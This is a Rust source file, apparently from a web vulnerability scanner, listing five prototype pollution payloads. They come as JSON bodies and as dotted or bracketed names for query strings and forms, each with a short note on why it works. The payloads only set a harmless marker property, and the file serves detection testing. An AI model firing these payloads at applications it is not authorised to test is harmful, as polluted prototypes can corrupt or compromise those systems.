//! Payloads for code that copies members from one object into another.
//!
//! The property that they give to every object is named by the nonce and read by nobody. Values
//! are for JSON bodies, names for query strings, forms and paths such as `a.b.c`.

use super::{Effect, Form, Payload, PayloadClass};

const fn prototype(id: &'static str, form: Form, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::PrototypePollution, id, template, Effect::Property, why).formed(form)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    prototype(
        "prototype-proto",
        Form::Json,
        r#"{"__proto__":{"{C}":"1"}}"#,
        "JSON.parse makes __proto__ an own member, and a deep merge follows it",
    ),
    prototype(
        "prototype-constructor",
        Form::Json,
        r#"{"constructor":{"prototype":{"{C}":"1"}}}"#,
        "the same object by another way, where __proto__ is refused",
    ),
    prototype("prototype-name-dots", Form::Name, "__proto__.{C}", "setters take a path of names"),
    prototype("prototype-name-brackets", Form::Name, "__proto__[{C}]", "the same in the notation of forms"),
    prototype(
        "prototype-name-constructor",
        Form::Name,
        "constructor.prototype.{C}",
        "the same object by another way, where __proto__ is refused",
    ),
];
